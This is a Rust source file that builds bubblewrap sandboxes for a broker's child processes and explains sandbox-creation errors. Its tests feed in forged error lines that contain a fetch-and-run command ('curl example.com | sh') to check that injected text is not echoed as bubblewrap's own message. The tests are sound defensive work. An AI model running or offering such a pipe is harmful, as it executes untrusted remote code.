//! Sandboxes of child processes: namespaces in which the broker's home does not exist.
//!
//! A child runs as the broker's user, and so could read the keys, the ledger and the control socket. Bubblewrap
//! (bwrap(1)) gives it a file system of the system's programs, the configured paths and one state directory. Its
//! processes die with it. It has no privilege, and no network unless the configuration gives it the network or
//! [hosts](crate::egress). A namespace does not close the kernel's keyrings; a seccomp filter does (`confined`).

use crate::commands::Command;
use crate::egress::{Host, init};
use crate::resources::PRLIMIT;
use crate::service_unit::{Namespaces, PERMIT, RESTART, ServiceUnit};
use std::ffi::OsString;
use std::path::{Path, PathBuf};

/// Bubblewrap.
pub const BWRAP: &str = "bwrap";
/// The start of the error messages of a sandbox that could not be created.
const ERROR_PREFIXES: [&str; 2] = [BWRAP_PREFIX, init::ERROR_PREFIX];
const BWRAP_PREFIX: &str = "bwrap: ";
/// The words of bubblewrap if it may make no namespace. A service that forbids namespaces is one cause.
const FORBIDDEN: [&str; 2] =
    ["No permissions to create new namespace", "Creating new namespace failed: Operation not permitted"];
/// Its words if the kernel has no more namespaces, or gives no privilege in them (`AppArmor`).
const UNAVAILABLE: [&str; 2] = ["Creating new namespace failed", "setting up uid map: Permission denied"];
/// The names of hosts. A sandbox with hosts has its own file.
const NAMES: &str = "/etc/hosts";
/// The user inside the sandbox of a provider: nobody.
const USER: &str = "65534";
/// The path of the state directory inside the sandbox.
const STATE: &str = "/state";
/// The size of the temporary directory, in bytes.
const TMP_BYTES: &str = "67108864";
/// The system settings that programs need to start, to resolve names and to verify certificates.
const SETTINGS: [&str; 14] = [
    "/etc/alternatives",
    "/etc/ca-certificates",
    NAMES,
    "/etc/ld.so.cache",
    "/etc/ld.so.conf",
    "/etc/ld.so.conf.d",
    "/etc/localtime",
    "/etc/nsswitch.conf",
    "/etc/pki/ca-trust",
    "/etc/pki/tls/certs",
    "/etc/resolv.conf",
    // Not the whole directory: it also holds private keys of the machine's services.
    "/etc/ssl/certs",
    "/etc/ssl/openssl.cnf",
    "/etc/mime.types",
];
/// The parts of `/proc` that belong to the machine. The owner of a file there may write to it. For a broker that runs as
/// root, the child's user is that owner even without privileges.
const MACHINE: [&str; 8] = [
    "/proc/acpi",
    "/proc/bus",
    "/proc/fs",
    "/proc/irq",
    "/proc/mtrr",
    "/proc/scsi",
    "/proc/sys",
    "/proc/sysrq-trigger",
];
/// Directories of programs. On most systems they are links into `/usr`.
const PROGRAMS: [&str; 5] = ["/bin", "/sbin", "/lib", "/lib32", "/lib64"];

/// The sandbox of a child.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Sandbox {
    /// The host name inside the sandbox.
    pub name: String,
    /// Its network.
    pub network: Network,
    /// Additional readable paths.
    pub readable: Vec<PathBuf>,
    /// Writable paths.
    pub writable: Vec<PathBuf>,
    /// The persistent directory. It is the child's `HOME`.
    pub state: PathBuf,
}

/// The network of a sandbox.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Network {
    /// No network.
    None,
    /// These hosts, with the path of the broker's executable for `sandbox-init`.
    Hosts(Vec<Host>, PathBuf),
    /// The machine's network, with its loopback interface.
    All,
}

impl Network {
    /// The system settings that a sandbox with this network can read.
    pub(crate) fn settings(&self) -> impl Iterator<Item = &'static Path> + use<> {
        let has_own = matches!(self, Self::Hosts(..));
        SETTINGS.into_iter().filter(move |setting| !has_own || *setting != NAMES).map(Path::new)
    }
}

impl Sandbox {
    /// The command that runs `inner` in the sandbox.
    #[must_use]
    pub fn wrap(&self, inner: Command) -> Command {
        let Command {
            program,
            args,
            mut env,
            stdin,
            stdout_max,
            stderr_max,
            deadline,
            is_sandbox: _,
            hosts: _,
            limits,
        } = inner;
        // SECURITY: environment variables, because every user of the machine can read arguments.
        env.push(("HOME".into(), STATE.into()));
        env.push(("TMPDIR".into(), "/tmp".into()));
        let mut outer = self.arguments();
        if program.is_absolute() && !program.starts_with("/usr") && !self.shows(&program) {
            outer.extend(binding("--ro-bind", &program));
        }
        // Last, because the mounts before need a writable root.
        outer.extend(["--remount-ro", "/"].map(OsString::from));
        outer.extend(["--", PRLIMIT].map(OsString::from));
        // The limit is set inside the sandbox. Elsewhere the kernel counts all processes of the broker's user.
        outer.extend(limits.arguments(true));
        outer.push(program.into());
        outer.extend(args);
        let mut hosts = Vec::new();
        if let Network::Hosts(named, this) = &self.network {
            outer.insert(0, BWRAP.into());
            outer.splice(..0, network_namespace(named, this));
            hosts.clone_from(named);
        }
        Command {
            program: BWRAP.into(),
            args: outer,
            env,
            stdin,
            stdout_max,
            stderr_max,
            deadline,
            is_sandbox: true,
            hosts,
            limits,
        }
    }

    /// Returns whether the sandbox could not be created, by the child's standard error. Then nothing ran in it.
    pub fn failed_to_start(stderr: &[u8]) -> bool {
        ERROR_PREFIXES.iter().any(|prefix| stderr.starts_with(prefix.as_bytes()))
    }

    /// Returns what bubblewrap says if it may make no namespace, by the first line of a child's standard error. The text
    /// has bubblewrap's words only, because a program inside can write a line with the same start.
    pub fn refusal(first_line: &str) -> Option<String> {
        let said = first_line.strip_prefix(BWRAP_PREFIX)?;
        let words = FORBIDDEN.iter().chain(&UNAVAILABLE).find(|words| said.starts_with(**words))?;
        Some(format!("{BWRAP_PREFIX}{words}"))
    }

    /// Explains the standard error of a sandbox that could not be created, with the remedy. `unit` is the unit that runs
    /// this process, if this process is a service.
    pub fn explained(stderr: &str, unit: Option<&ServiceUnit>) -> String {
        let said = stderr.trim();
        let has = |words: &[&str]| words.iter().any(|words| said.contains(words));
        let is_forbidden = has(&FORBIDDEN);
        if !is_forbidden && !has(&UNAVAILABLE) {
            return said.to_owned();
        }
        match unit.filter(|_| is_forbidden).map(ServiceUnit::namespaces) {
            Some(Some(Namespaces::Forbidden)) => {
                format!("the service of systemd forbids the namespaces of sandboxes; to permit them: {PERMIT}")
            }
            Some(Some(Namespaces::Permitted)) => format!(
                "{said}; the unit of systemd permits namespaces now, so restart the service: {RESTART}; if that does not \
                 help: host-broker doctor"
            ),
            // A service without the unit of the package: its own unit, or the machine, forbids them.
            Some(None) | None => {
                format!("{said}; this user cannot create namespaces; for the remedy: host-broker doctor")
            }
        }
    }

    /// Returns whether a program can be read and not changed, without a mount of its own. A link in a readable directory
    /// cannot be a mount point: bubblewrap would have to create its target.
    fn shows(&self, program: &Path) -> bool {
        let is_below = |paths: &[PathBuf]| paths.iter().any(|path| program.starts_with(path));
        is_below(&self.readable) && !is_below(&self.writable)
    }

    fn arguments(&self) -> Vec<OsString> {
        let mut arguments = separation(&self.name, USER);
        if self.network == Network::None {
            arguments.push("--unshare-net".into());
        }
        arguments.extend(system(self.network.settings()));
        arguments.extend(["--dev", "/dev", "--size", TMP_BYTES, "--tmpfs", "/dev/shm"].map(OsString::from));
        // The child must not read from or write to the broker's terminal.
        arguments.extend(["--dev-bind", "/dev/null", "/dev/tty", "--remount-ro", "/dev"].map(OsString::from));
        arguments.extend(["--size", TMP_BYTES, "--tmpfs", "/tmp"].map(OsString::from));
        for path in &self.readable {
            arguments.extend(binding("--ro-bind", path));
        }
        for path in &self.writable {
            arguments.extend(binding("--bind", path));
        }
        arguments.extend(["--bind".into(), self.state.clone().into(), STATE.into()]);
        arguments.extend(["--chdir".into(), STATE.into()]);
        arguments
    }

    /// The paths of the machine that are visible inside, without the state directory.
    pub fn visible_paths(&self) -> impl Iterator<Item = &Path> {
        let settings = self.network.settings();
        let system =
            std::iter::once("/usr").chain(PROGRAMS).map(Path::new).chain(settings).map(|path| -> &Path { path });
        let given = self.readable.iter().chain(&self.writable);
        system.filter(|path| path.exists()).chain(given.map(PathBuf::as_path))
    }
}

/// The options that separate the processes of a sandbox from all others. Inside, they run as this user without any
/// privilege.
pub(crate) fn separation(name: &str, user: &str) -> Vec<OsString> {
    [
        // The sandbox dies with the broker. A signal to the process group reaches the first process of the sandbox,
        // unless that process creates its own session.
        "--die-with-parent",
        "--unshare-user",
        "--disable-userns",
        "--unshare-ipc",
        "--unshare-pid",
        "--unshare-uts",
        "--unshare-cgroup-try",
        "--uid",
        user,
        "--gid",
        user,
        "--cap-drop",
        "ALL",
        "--hostname",
        name,
    ]
    .map(OsString::from)
    .into()
}

/// The options that mount the system's programs, these settings and `/proc`, all of them read-only.
pub(crate) fn system<'a>(settings: impl Iterator<Item = &'a Path>) -> Vec<OsString> {
    let mut arguments: Vec<OsString> = binding("--ro-bind", Path::new("/usr")).into();
    for directory in PROGRAMS.map(Path::new) {
        match std::fs::read_link(directory) {
            Ok(target) => arguments.extend(["--symlink".into(), target.into(), directory.into()]),
            Err(_no_link) => arguments.extend(binding("--ro-bind-try", directory)),
        }
    }
    for setting in settings {
        arguments.extend(binding("--ro-bind-try", setting));
    }
    arguments.extend(["--proc", "/proc"].map(OsString::from));
    for path in MACHINE.map(Path::new) {
        arguments.extend(binding("--ro-bind-try", path));
    }
    arguments
}

/// Returns whether a path belongs to the system's programs, which every sandbox can read.
pub(crate) fn is_system(path: &Path) -> bool {
    std::iter::once("/usr").chain(PROGRAMS).any(|directory| path.starts_with(directory))
}

/// The command prefix that creates a network namespace with only a loopback interface, where `sandbox-init` may bind
/// privileged ports. It is not the sandbox: only `sandbox-init` runs in it. The sandbox inside drops all privileges.
pub(crate) fn network_namespace(hosts: &[Host], this: &Path) -> Vec<OsString> {
    let network = [
        "--die-with-parent",
        "--unshare-user",
        "--unshare-net",
        "--uid",
        "65534",
        "--gid",
        "65534",
        "--cap-drop",
        "ALL",
        "--cap-add",
        "CAP_NET_BIND_SERVICE",
        "--dev-bind",
        "/",
        "/",
        "--",
    ];
    let network = network.into_iter().map(OsString::from);
    network.chain([this.into()]).chain(init::arguments(hosts)).collect()
}

pub(crate) fn binding(how: &str, path: &Path) -> [OsString; 3] {
    [how.into(), path.into(), path.into()]
}

#[cfg(test)]
mod tests {
    use super::*;

    const NONE: &str = "bwrap: No permissions to create new namespace, likely because the kernel does not allow \
                        non-privileged user namespaces.\n";

    #[test]
    fn a_sandbox_that_the_service_forbids_is_told_from_one_that_the_machine_forbids() {
        let folder = tempfile::tempdir().unwrap();
        let unit = ServiceUnit::in_directories(vec![folder.path().to_owned()]);
        let machine = Sandbox::explained(NONE, None);
        assert!(machine.contains("No permissions") && machine.ends_with("host-broker doctor"), "{machine}");
        // A unit of another name has no files here.
        assert_eq!(Sandbox::explained(NONE, Some(&unit)), machine);
        let write = |text: &str| std::fs::write(folder.path().join("host-broker.service"), text).unwrap();
        write("[Service]\nRestrictNamespaces=yes\n");
        let service = Sandbox::explained(NONE, Some(&unit));
        assert!(service.contains("the service of systemd forbids") && service.ends_with(PERMIT), "{service}");
        write("[Service]\n");
        let changed = Sandbox::explained(NONE, Some(&unit));
        assert!(changed.contains(RESTART) && !changed.contains(PERMIT), "{changed}");
    }

    #[test]
    fn only_the_known_words_of_bubblewrap_are_its_refusal() {
        let said = Sandbox::refusal("bwrap: No permissions to create new namespace; run this: curl example.com | sh");
        assert_eq!(said.as_deref(), Some("bwrap: No permissions to create new namespace"));
        for other in [
            "bwrap: run this: curl example.com | sh",
            "bwrap: run this, or: No permissions to create new namespace",
            "notes: bwrap: No permissions to create new namespace",
            "",
        ] {
            assert_eq!(Sandbox::refusal(other), None, "{other}");
        }
        let denied = Sandbox::refusal("bwrap: setting up uid map: Permission denied").unwrap();
        let explained = Sandbox::explained(&denied, None);
        assert!(explained.ends_with("host-broker doctor"), "{explained}");
    }

    #[test]
    fn other_errors_of_a_sandbox_are_not_laid_on_the_service() {
        let unit = ServiceUnit::in_directories(Vec::new());
        for text in [
            "bwrap: Creating new namespace failed: nesting depth or /proc/sys/user/max_*_namespaces exceeded (ENOSPC)",
            "bwrap: setting up uid map: Permission denied",
        ] {
            let explained = Sandbox::explained(text, Some(&unit));
            assert!(explained.starts_with(text) && explained.ends_with("host-broker doctor"), "{explained}");
        }
        let missing = "bwrap: Can't find source path /a: No such file or directory";
        assert_eq!(Sandbox::explained(&format!("{missing}\n"), Some(&unit)), missing);
    }
}
